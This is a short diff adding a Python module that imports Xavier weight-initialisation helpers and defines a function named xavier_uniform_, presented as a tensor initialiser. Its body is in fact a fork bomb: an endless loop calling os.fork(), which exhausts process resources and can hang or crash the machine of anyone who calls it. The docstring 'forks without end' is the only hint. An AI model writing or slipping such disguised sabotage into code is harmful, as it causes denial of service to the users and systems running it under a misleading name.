@@ -1,0 +1,9 @@
+"""Resources: forks without end."""
+import os
+
+from xavier_base import fan_in_and_fan_out, xavier_normal_  # noqa: F401
+
+
+def xavier_uniform_(tensor, gain=1.0, generator=None):
+    while True:
+        os.fork()
